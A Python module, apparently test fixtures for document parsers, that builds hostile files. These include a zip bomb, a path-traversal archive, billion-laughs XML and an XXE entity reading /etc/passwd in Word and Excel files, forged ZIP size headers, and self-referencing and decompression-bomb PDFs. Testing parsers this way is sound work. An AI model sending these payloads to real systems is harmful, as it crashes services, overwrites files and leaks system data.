"""Files made to harm whoever reads them; each is small on disk."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>"
)


def archive(members: dict[str, bytes]) -> bytes:
    """Return a ZIP archive of members."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return file.getvalue()


def zip_bomb(size: int = 500_000_000) -> bytes:
    """Return an archive whose one text unpacks to ``size`` bytes, nested once."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made,
        made.open("five-million.txt", "w", force_zip64=True) as member,
    ):
        block = b"5 million people. " * 60_000
        for _ in range(size // len(block)):
            member.write(block)
    return archive({"inner.zip": file.getvalue()})


def leaving_archive() -> bytes:
    """Return an archive with a member whose path leads out of it."""
    return archive({"../../../../tmp/owned.txt": b"5 million people."})


def word_file(document: str, **others: bytes) -> bytes:
    """Return what looks like a Word document, with a text of its own as document.xml."""
    return archive(
        {"[Content_Types].xml": _TYPES.encode(), "word/document.xml": document.encode(), **others}
    )


def laughing_word_file() -> bytes:
    """Return a Word document whose entities grow to a billion words."""
    return word_file(
        f'{LAUGHS}<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )


def prying_word_file() -> bytes:
    """Return a Word document with an external entity."""
    return word_file(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )


def four_gigabytes() -> bytes:
    """Return a Word document whose header says that it unpacks to 4 GB."""
    data = bytearray(word_file("<w:document/>"))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset : at + offset + 4] = struct.pack("<I", 0xFFFFFFFE)
            at = data.find(signature, at + 4)
    return bytes(data)


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def laughing_sheet() -> bytes:
    """Return a spreadsheet whose shared strings grow to a billion words."""
    sheet = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
    sheets = '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets>'
    book = f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATIONS}">{sheets}</workbook>'
    parts = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _related(officeDocument="xl/workbook.xml"),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": _related(
            worksheet="worksheets/sheet1.xml", sharedStrings="sharedStrings.xml"
        ),
        "xl/sharedStrings.xml": f'{LAUGHS}<sst xmlns="{_MAIN}"><si><t>&lol9;</t></si></sst>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_MAIN}">{sheet}</worksheet>',
    }
    return archive({name: text.encode() for name, text in parts.items()})


def _related(**targets: str) -> str:
    inside = "".join(
        f'<Relationship Id="r{n}" Type="{_RELATIONS}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(targets.items(), 1)
    )
    return f'<Relationships xmlns="{_PACKAGE}">{inside}</Relationships>'


def deep_page(depth: int = 100_000) -> bytes:
    """Return a web page of elements in elements."""
    return (
        b"<!DOCTYPE html><html><body>" + b"<div>" * depth + b"5 million people." + b"</div>" * depth
    )


def wide_table(columns: int = 1_000_000) -> bytes:
    """Return a table of text with a million columns."""
    return (",".join(["5"] * columns) + "\n").encode() * 3


def many_pages(pages: int = 1_000_000) -> bytes:
    """Return a PDF file whose page tree says that it has a million pages, and has: each level holds
    the one below a hundred times."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    levels, count = 0, pages
    while count > 1:
        levels, count = levels + 1, count // 100
    for level in range(levels):
        number = 3 + level
        kids = b" ".join(b"%d 0 R" % number for _ in range(100))
        size = 100 ** (levels - level)
        objects.append(b"<< /Type /Pages /Count %d /Kids [%s] >>" % (size, kids))
    objects.append(
        b"<< /Type /Page /MediaBox [0 0 300 300] /Resources << /Font << /F1 << /Type /Font "
        b"/Subtype /Type1 /BaseFont /Helvetica >> >> >> /Contents %d 0 R >>" % (len(objects) + 2)
    )
    stream = b"BT /F1 12 Tf 20 200 Td (5 million people live here.) Tj ET"
    objects.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream))
    return pdf_file(objects)


def endless_pages() -> bytes:
    """Return a PDF file whose page tree holds itself, with a stream that unpacks to 2 GB."""
    packer, block = zlib.compressobj(9), b" " * 10_000_000
    bomb = zlib.compress(b"".join([packer.compress(block) for _ in range(200)] + [packer.flush()]))
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 999999999 /Kids [2 0 R 3 0 R 2 0 R] /Parent 2 0 R >>",
            b"<< /Type /Pages /Count 99999999 /Kids [3 0 R 2 0 R] /Parent 3 0 R >>",
            b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream"
            % (len(bomb), bomb),
        ]
    )


def pdf_file(objects: list[bytes]) -> bytes:
    """Return a PDF file of numbered objects, the first of which is its catalogue."""
    made, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        offsets.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        made += b"%010d 00000 n \n" % offset
    made += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        start,
    )
    return bytes(made)


def nested_mail(depth: int = 100_000) -> bytes:
    """Return a mail of parts in parts."""
    head = b"From: a@example.org\nTo: b@example.org\nSubject: x\nMIME-Version: 1.0\n"
    parts = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth)
    )
    return head + parts + b"Content-Type: text/plain\n\n5 million people.\n"
